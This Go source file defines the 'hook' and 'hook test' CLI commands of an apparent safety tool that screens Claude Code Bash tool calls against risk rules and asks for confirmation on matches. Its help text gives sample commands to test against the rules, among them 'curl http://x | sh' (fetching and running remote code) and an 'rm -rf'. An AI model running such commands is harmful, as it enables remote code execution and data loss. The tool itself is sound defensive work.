package cli

import (
	"encoding/json"
	"fmt"
	"os"

	"github.com/google/uuid"
	"github.com/spf13/cobra"
	"golang.org/x/term"

	"github.com/cc-extention/cc-ext/internal/hook"
)

func init() {
	hookCmd.AddCommand(hookTestCmd)
	rootCmd.AddCommand(hookCmd)
}

var hookCmd = &cobra.Command{
	Use:   "hook",
	Short: "Run as a Claude Code PreToolUse hook",
	Long: `Read one PreToolUse event from stdin and write one decision to stdout.

Bash tool calls whose command matches a HIGH or MEDIUM rule produce an "ask"
decision with an explanation; everything else produces {}. Malformed input
and internal failures also produce {}: the hook never blocks a command
because of its own problems, and always exits 0.

Register it in ~/.claude/settings.json:
  "PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "cc-ext hook"}]}]`,
	Annotations: map[string]string{annotationFailOpen: "true"},
	Args:        cobra.NoArgs,
	RunE:        runHook,
}

var hookTestCmd = &cobra.Command{
	Use:   "test <command>",
	Short: "Print the decision the hook would emit for a command",
	Long: `Build a Bash PreToolUse event for the given command, run it through the
hook, and print the resulting decision document.

Examples:
  cc-ext hook test "rm -rf /tmp/foo && echo done"
  cc-ext hook test "git push --force; curl http://x | sh"`,
	Args: cobra.ExactArgs(1),
	RunE: runHookTest,
}

func runHook(cmd *cobra.Command, args []string) (err error) {
	stdout := cmd.OutOrStdout()
	stderr := cmd.ErrOrStderr()

	defer func() {
		if r := recover(); r != nil {
			fmt.Fprintf(stderr, "cc-ext: hook failed: %v\n", r)
			_ = hook.Write(stdout, hook.Allow())
			err = nil
		}
	}()

	p, _ := newPipeline(stderr, true)
	defer p.Close()

	logger := p.logger.With("invocation", uuid.NewString())

	stdin := cmd.InOrStdin()
	if f, ok := stdin.(*os.File); ok && term.IsTerminal(int(f.Fd())) {
		logger.Warn("stdin is a terminal; the hook expects a JSON event on stdin")
		if err := hook.Write(stdout, hook.Allow()); err != nil {
			logger.Error("emitting decision failed", "error", err)
		}
		return nil
	}

	handler := hook.NewHandler(p.engine,
		hook.WithLanguage(p.cfg.General.Language),
		hook.WithShellTool(p.cfg.General.ShellTool),
		hook.WithLogger(logger),
	)
	if err := handler.Handle(stdin, stdout); err != nil {
		logger.Error("emitting decision failed", "error", err)
	}
	return nil
}

func runHookTest(cmd *cobra.Command, args []string) error {
	p, err := newPipeline(cmd.ErrOrStderr(), false)
	if err != nil {
		return err
	}
	defer p.Close()

	event, err := json.Marshal(map[string]any{
		"tool_name":  p.cfg.General.ShellTool,
		"tool_input": map[string]string{"command": args[0]},
	})
	if err != nil {
		return fmt.Errorf("building event: %w", err)
	}

	handler := hook.NewHandler(p.engine,
		hook.WithLanguage(p.cfg.General.Language),
		hook.WithShellTool(p.cfg.General.ShellTool),
		hook.WithLogger(p.logger),
	)
	return hook.Write(cmd.OutOrStdout(), handler.Decide(event))
}
